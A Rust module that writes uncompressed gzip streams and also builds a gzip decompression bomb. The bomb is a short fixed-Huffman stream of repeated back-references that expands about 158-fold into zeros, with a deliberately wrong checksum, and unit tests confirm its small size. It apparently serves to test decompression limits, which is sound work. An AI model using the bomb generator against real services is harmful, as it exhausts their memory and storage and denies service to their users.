//! gzip without compression, and gzip that grows when it is unpacked.

/// RFC 1952 around stored blocks.
pub fn pack(bytes: &[u8]) -> Vec<u8> {
    let mut out = HEADER.to_vec();
    let mut blocks = bytes.chunks(0xffff).peekable();
    if blocks.peek().is_none() {
        out.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    }
    while let Some(block) = blocks.next() {
        let len = block.len() as u16;
        out.push(u8::from(blocks.peek().is_none()));
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&(!len).to_le_bytes());
        out.extend_from_slice(block);
    }
    out.extend_from_slice(&crc32(bytes).to_le_bytes());
    out.extend_from_slice(&(bytes.len() as u32).to_le_bytes());
    out
}

/// About `size` zeros in about a 158th of their space. The checksum is wrong: who reads so far has lost already.
pub fn bomb(size: usize) -> Vec<u8> {
    let mut out = HEADER.to_vec();
    let mut bits = Bits { out: &mut out, pending: 0, count: 0 };
    // One last block with fixed Huffman codes (RFC 1951, 3.2.6): a zero, then "258 bytes from one back", again and again.
    bits.put(0b011, 3);
    bits.put_code(0b0011_0000, 8);
    for _ in 0..size / 258 {
        bits.put_code(0b1100_0101, 8);
        bits.put_code(0, 5);
    }
    bits.put_code(0, 7);
    bits.flush();
    out.extend_from_slice(&[0; 8]);
    out
}

const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

struct Bits<'a> {
    out: &'a mut Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits<'_> {
    fn put(&mut self, value: u32, len: u32) {
        self.pending |= value << self.count;
        self.count += len;
        while self.count >= 8 {
            self.out.push((self.pending & 0xff) as u8);
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    /// Huffman codes go in with their highest bit first.
    fn put_code(&mut self, code: u32, len: u32) {
        self.put(code.reverse_bits() >> (32 - len), len);
    }

    fn flush(&mut self) {
        if self.count > 0 {
            self.put(0, 8 - self.count);
        }
    }
}

fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |crc, byte| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 })
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_that_of_rfc_1952() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }

    #[test]
    fn a_bomb_is_small() {
        assert!(bomb(1 << 20).len() < 7_000);
    }
}
